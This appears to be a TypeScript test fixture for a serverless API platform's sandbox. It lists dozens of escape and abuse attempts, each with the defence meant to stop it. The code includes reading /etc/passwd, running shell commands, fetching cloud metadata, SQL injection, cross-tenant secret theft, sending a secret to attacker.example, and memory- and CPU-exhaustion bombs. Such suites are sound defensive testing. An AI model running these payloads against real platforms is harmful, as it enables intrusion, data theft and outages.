/**
 * An attack as code of an API: the body of an async function of `(request, env, url, facts)`. What it returns is its booty; when it throws, it
 * was stopped. None of this passes the gate's rules: the suite deploys it past them.
 */
export interface ScriptAttack {
  attack: string;
  stoppedBy: readonly string[];
  code: string;
}

/** What an attacker may be supposed to know. */
export interface ScriptFacts {
  victimApiId: string;
  victimWorkspaceId: string;
  victimDocument: string;
  tcpPort: number;
  /** An address of this machine on its network; null when it has none. */
  hostAddress: string | null;
}

const WORKERD = ["workerd"];
const NETWORK = ["workerd", "host socket"];
const SOCKET = ["host socket"];
const want = (condition: string, booty: string): string => `if (!(${condition})) throw new Error("nothing there"); return ${booty};`;
const call = (target: string, init = "undefined"): string => `const r = await fetch(${target}, ${init}); return r.status + " " + (await r.text()).slice(0, 100);`;
/** Catches what the harness calls with, by standing in its way. */
const CATCH_HOST = `const caught = []; const look = (value) => { try { if (value && typeof value === "object") for (const inner of [value, ...Object.values(value)]) if (inner && typeof inner.fetch === "function" && !(inner instanceof Request) && !caught.includes(inner)) caught.push(inner); } catch {} };
  const { set, get } = Map.prototype; Map.prototype.set = function (key, value) { look(key); look(value); return set.call(this, key, value); }; Map.prototype.get = function (key) { look(key); return get.call(this, key); };
  const then = Promise.prototype.then; Promise.prototype.then = function (...rest) { look(this); return then.apply(this, rest); };
  const { AsyncLocalStorage } = await import("node:async_hooks"); const { run, getStore } = AsyncLocalStorage.prototype; AsyncLocalStorage.prototype.run = function (store, ...rest) { look(store); return run.call(this, store, ...rest); }; AsyncLocalStorage.prototype.getStore = function () { const store = getStore.call(this); look(store); return store; };
  look(globalThis.Fetcher?.prototype); look((await import("./console.ts")).currentScope()); Object.defineProperty(Object.prototype, "fetch", { configurable: true, get() { look(this); return undefined; } }); Object.defineProperty(Object.prototype, "HOST", { configurable: true, get() { look(this); return undefined; } });
  await env.DATA.collection("x").count().catch(() => {}); console.log("x"); await new Promise((r) => setTimeout(r, 5));
  Object.assign(Map.prototype, { set, get }); Promise.prototype.then = then; delete Object.prototype.fetch; delete Object.prototype.HOST; Object.assign(AsyncLocalStorage.prototype, { run, getStore });`;

export const SCRIPT_ATTACKS: readonly ScriptAttack[] = [
  { attack: "read /etc/passwd with node:fs", stoppedBy: WORKERD, code: `return (await import("node:fs")).readFileSync("/etc/passwd", "utf8");` },
  { attack: "list the machine's files", stoppedBy: WORKERD, code: `const names = (await import("node:fs")).readdirSync("/"); ${want(`names.some((name) => ["etc", "usr", "s"].includes(name))`, "names")}` },
  { attack: "write a file beside its sockets", stoppedBy: WORKERD, code: `const fs = await import("node:fs"); fs.writeFileSync("/s/x", "x"); return fs.readFileSync("/s/h.sock");` },
  { attack: "read the environment of the process", stoppedBy: WORKERD, code: `const names = Object.keys(process.env); ${want("names.length > 0", "names")}` },
  { attack: "reach Node's internals (process.binding)", stoppedBy: WORKERD, code: `const found = process.binding("fs").internalModuleStat ?? process.binding("spawn_sync").spawn; ${want("found", "String(found)")}` },
  { attack: "start a program", stoppedBy: WORKERD, code: `return (await import("node:child_process")).execSync("id");` },
  { attack: "start a thread", stoppedBy: WORKERD, code: `const { Worker } = await import("node:worker_threads"); return String(new Worker("1", { eval: true }).threadId);` },
  { attack: "start a web worker, for a clock as fine as Spectre needs", stoppedBy: WORKERD, code: `return String(new Worker("data:text/javascript,1"));` },
  { attack: "run code in another context (node:vm)", stoppedBy: WORKERD, code: `return (await import("node:vm")).runInThisContext("1 + 1");` },
  { attack: "open a debugger (node:inspector)", stoppedBy: WORKERD, code: `const i = await import("node:inspector"); i.open(0, "127.0.0.1"); ${want("i.url()", "i.url()")}` },
  { attack: "load a native module", stoppedBy: WORKERD, code: `const { createRequire } = await import("node:module"); return String(createRequire("/")("/bin/program"));` },
  { attack: "make code from a text with eval", stoppedBy: WORKERD, code: `return (0, globalThis["ev" + "al"])("1 + 1");` },
  { attack: "make code from a text with Function", stoppedBy: WORKERD, code: `return Reflect.construct((() => {})["con" + "structor"], ["return 1"])();` },
  { attack: "make code from a text with an async function's constructor", stoppedBy: WORKERD, code: `return await (async () => {})["con" + "structor"]("return 1")();` },
  { attack: "make code from a text with a timer", stoppedBy: WORKERD, code: `setTimeout("globalThis.ran = 1", 0); await new Promise((r) => setTimeout(r, 20)); ${want("globalThis.ran", "ran")}` },
  { attack: "compile WebAssembly", stoppedBy: WORKERD, code: `return String(await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));` },
  { attack: "import code from a data: address", stoppedBy: WORKERD, code: `return JSON.stringify(await import("data:text/javascript,export default 1"));` },
  { attack: "import code from a blob: address", stoppedBy: WORKERD, code: `return JSON.stringify(await import(URL.createObjectURL(new Blob(["export default 1"]))));` },
  { attack: "import code over the network", stoppedBy: WORKERD, code: `return JSON.stringify(await import("https://example.com/x.js"));` },
  { attack: "take the platform's bindings (cloudflare:workers env)", stoppedBy: WORKERD, code: `const found = (await import("cloudflare:workers")).env; ${want("found?.HOST", "Object.keys(found)")}` },
  { attack: "import the platform's own module with its bindings", stoppedBy: WORKERD, code: `const main = await import("./main.ts"); const r = await main.default.fetch(new Request("http://x/well"), {}, { waitUntil() {} }); ${want(`main.HOST`, "r.status")}` },
  { attack: "become another API's runtime, through the harness's own control", stoppedBy: ["harness"], code: `const { control } = await import("./main.ts"); const body = JSON.stringify({ code: "exports.default = { fetch: () => new Response(1) }", secretNames: [] }); const r = await control.fetch(new Request("http://x/", { method: "POST", body }), {}, {}); ${want("r.status === 204", "r.status")}` },
  { attack: "catch what makes code of a text out of the platform's bindings", stoppedBy: [...WORKERD, "harness"], code: `const caught = []; Object.defineProperty(Object.prototype, "UNSAFE_EVAL", { configurable: true, get() { caught.push(this); return undefined; }, set() {} }); const { control, default: main } = await import("./main.ts"); await control.fetch(new Request("http://x/"), {}, {}); await main.fetch(new Request("http://x/well"), {}, { waitUntil() {} }).catch(() => {}); delete Object.prototype.UNSAFE_EVAL; const found = caught.some((one) => one.UNSAFE_EVAL); ${want("found", "caught")}` },
  { attack: "connect to a port with cloudflare:sockets", stoppedBy: NETWORK, code: `const s = (await import("cloudflare:sockets")).connect("127.0.0.1:" + facts.tcpPort); await s.opened; return "open";` },
  { attack: "connect to a port with node:net", stoppedBy: NETWORK, code: `const net = await import("node:net"); return await new Promise((ok, no) => net.connect(facts.tcpPort, "127.0.0.1").on("connect", () => ok("open")).on("error", no));` },
  { attack: "call a port with node:http", stoppedBy: NETWORK, code: `const http = await import("node:http"); return await new Promise((ok, no) => http.get("http://127.0.0.1:" + facts.tcpPort, (r) => (r.headers["x-platform-refusal"] ? no(new Error("refused by the host")) : ok("status " + r.statusCode))).on("error", no));` },
  { attack: "fetch a port of the machine", stoppedBy: SOCKET, code: call(`"http://127.0.0.1:" + facts.tcpPort + "/"`) },
  { attack: "fetch the machine's own network address", stoppedBy: SOCKET, code: call(`"http://" + (facts.hostAddress ?? "localhost") + ":" + facts.tcpPort + "/"`) },
  { attack: "fetch the cloud's metadata", stoppedBy: SOCKET, code: call(`"http://169.254.169.254/latest/meta-data/"`) },
  { attack: "fetch loopback in an odd spelling", stoppedBy: SOCKET, code: call(`"http://2130706433:" + facts.tcpPort + "/"`) },
  { attack: "fetch the services of the host by their inner name", stoppedBy: SOCKET, code: call(`"http://host/data"`, `{ method: "POST", body: '[["list","x"]]' }`) },
  { attack: "fetch the runner's control socket", stoppedBy: SOCKET, code: call(`"http://unix:%2Frunner.sock/list"`, `{ method: "POST", body: "{}" }`) },
  { attack: "fetch a file: address", stoppedBy: ["harness", "host socket"], code: call(`"file:///etc/passwd"`) },
  { attack: "open a WebSocket to a port", stoppedBy: ["harness", "host socket"], code: `const s = new WebSocket("ws://127.0.0.1:" + facts.tcpPort); return await new Promise((ok, no) => { s.addEventListener("open", () => ok("open")); s.addEventListener("error", () => no(new Error("closed"))); });` },
  { attack: "upgrade a fetch to a WebSocket", stoppedBy: SOCKET, code: `const r = await fetch("http://127.0.0.1:" + facts.tcpPort, { headers: { upgrade: "websocket" } }); ${want("r.webSocket", `"open"`)}` },
  { attack: "smuggle a second request in a header", stoppedBy: WORKERD, code: call(`"http://x.example/"`, `{ headers: { a: "b\\r\\n\\r\\nPOST /data HTTP/1.1" } }`) },
  { attack: "catch the platform's door by changing built-ins, then read another API's documents through it", stoppedBy: SOCKET,
    code: `${CATCH_HOST} const got = []; for (const host of caught) for (const headers of [{}, { "x-api-id": facts.victimApiId, "x-workspace-id": facts.victimWorkspaceId }]) got.push(await (await host.fetch("http://host/data?apiId=" + facts.victimApiId, { method: "POST", headers, body: JSON.stringify([["list", "secrets", { apiId: facts.victimApiId, workspaceId: facts.victimWorkspaceId }], ["get", "secrets", facts.victimDocument]]) })).text());
      ${want(`got.join().includes("marker-of-the-victim")`, `got.join()`).replace("nothing there", `" + caught.length + " door(s) caught; they lead to its own documents: " + got.join().slice(0, 80) + "`)}` },
  { attack: "print under another call's id, through the harness's own module", stoppedBy: SOCKET, code: `const scope = (await import("./console.ts")).currentScope(); scope.requestId = "victims-request"; console.log("forged-by-the-attacker"); await new Promise((r) => setTimeout(r, 300)); throw new Error("its words stay in its own API's log");` },
  { attack: "name another API in a collection", stoppedBy: SOCKET, code: `const c = env.DATA.collection("secrets'; set app.api_id = '" + facts.victimApiId + "'; --"); const all = await c.list(); ${want("all.items.length > 0", "JSON.stringify(all)")}` },
  { attack: "read another API's document by its id", stoppedBy: SOCKET, code: `const c = env.DATA.collection("secrets"); const got = [await c.get(facts.victimDocument), await c.list({ apiId: facts.victimApiId }), await c.list({ where: { api_id: facts.victimApiId } }).catch(() => null)]; ${want(`JSON.stringify(got).includes("marker-of-the-victim")`, "JSON.stringify(got)")}` },
  { attack: "inject SQL through a field's name", stoppedBy: SOCKET, code: `const c = env.DATA.collection("secrets"); const got = await c.list({ where: { "a' = 'a' or '1": "1" }, orderBy: "data); select * from documents; --" }); ${want("got.items.length > 0", "JSON.stringify(got)")}` },
  { attack: "break the store's answers with __proto__ and NUL", stoppedBy: SOCKET, code: `const c = env.DATA.collection("p"); await c.insert(JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"a":"\\\\u0000"}')).catch(() => {}); await c.list(); ${want("({}).polluted", `"polluted"`)}` },
  { attack: "become another consumer by changing env", stoppedBy: ["harness"], code: `"use strict"; env.CONSUMER.id = "somebody-else"; return env.CONSUMER.id;` },
  { attack: "read the value of a secret", stoppedBy: SOCKET, code: `const value = env.SECRETS.STRIPE_KEY; ${want(`value && !value.startsWith("{{secret:")`, "value")}` },
  { attack: "send a secret to a host that nobody approved", stoppedBy: SOCKET, code: call(`"https://attacker.example/?" + env.SECRETS.STRIPE_KEY`, `{ headers: { authorization: env.SECRETS.STRIPE_KEY } }`) },
  { attack: "end the process", stoppedBy: WORKERD, code: `process.exit(1); throw new Error("still there");` },
  { attack: "kill other processes", stoppedBy: WORKERD, code: `process.kill(1, 9); throw new Error("still there");` },
  { attack: "read the heap of the process (v8)", stoppedBy: WORKERD, code: `const v8 = await import("node:v8"); return String(v8.writeHeapSnapshot());` },
  { attack: "share memory with another API (a cache of the machine)", stoppedBy: WORKERD, code: `await caches.default.put("http://x.example/a", new Response("x", { headers: { "cache-control": "max-age=60" } })); const r = await caches.default.match("http://x.example/a"); ${want("r", "await r.text()")}` },
];

/** Code that hurts by what it uses up: afterwards the neighbour and the next call must be well. */
export const BOMBS: readonly { attack: string; stoppedBy: readonly string[]; code: string }[] = [
  { attack: "compute for ever", stoppedBy: ["watchdog"], code: `for (;;);` },
  { attack: "turn in microtasks for ever", stoppedBy: ["watchdog"], code: `for (;;) await null;` },
  { attack: "a regular expression that blows up", stoppedBy: ["watchdog"], code: `return String(/^(a+)+$/.test("a".repeat(40) + "b"));` },
  { attack: "fill the heap", stoppedBy: ["heap limit", "watchdog"], code: `const held = []; for (;;) { held.push(new Array(1e6).fill({}).map(() => ({ a: 1 }))); await new Promise((r) => setTimeout(r)); }` },
  { attack: "4 GB of ArrayBuffers", stoppedBy: ["watchdog", "rlimits"], code: `const held = []; for (let n = 0; n < 4096; n++) { held.push(new Uint8Array(1 << 20).fill(1)); if (n % 16 === 0) await new Promise((r) => setTimeout(r)); } return held.length;` },
  { attack: "one string of a gigabyte", stoppedBy: ["heap limit", "watchdog"], code: `let s = "x"; for (let n = 0; n < 34; n++) s += s; return s.length + JSON.stringify({ s }).length;` },
  { attack: "recurse for ever", stoppedBy: ["workerd"], code: `const f = (n) => f(n + 1) + 1; return f(0);` },
  { attack: "reject a promise that nobody awaits", stoppedBy: ["workerd"], code: `Promise.reject(new Error("lost")); setTimeout(() => { throw new Error("lost too"); }, 0); return "rejected";` },
  { attack: "a hundred thousand lines of log", stoppedBy: ["harness", "host socket"], code: `for (let n = 0; n < 100_000; n++) console.log("flood ".repeat(20)); return "printed";` },
  { attack: "ten thousand data operations at once", stoppedBy: ["host socket"], code: `const c = env.DATA.collection("flood"); const all = await Promise.allSettled(Array.from({ length: 10_000 }, (_, n) => c.get(String(n)))); throw all.find((one) => one.status === "rejected")?.reason ?? new Error("all answered");` },
  { attack: "a document of 20 MB", stoppedBy: ["host socket"], code: `return await env.DATA.collection("big").insert({ text: "x".repeat(20 << 20) });` },
  { attack: "a thousand fetches at once", stoppedBy: ["rlimits", "host socket"], code: `const all = await Promise.allSettled(Array.from({ length: 1000 }, () => fetch("https://attacker.example/"))); throw all.find((one) => one.status === "rejected")?.reason ?? new Error("all answered");` },
];
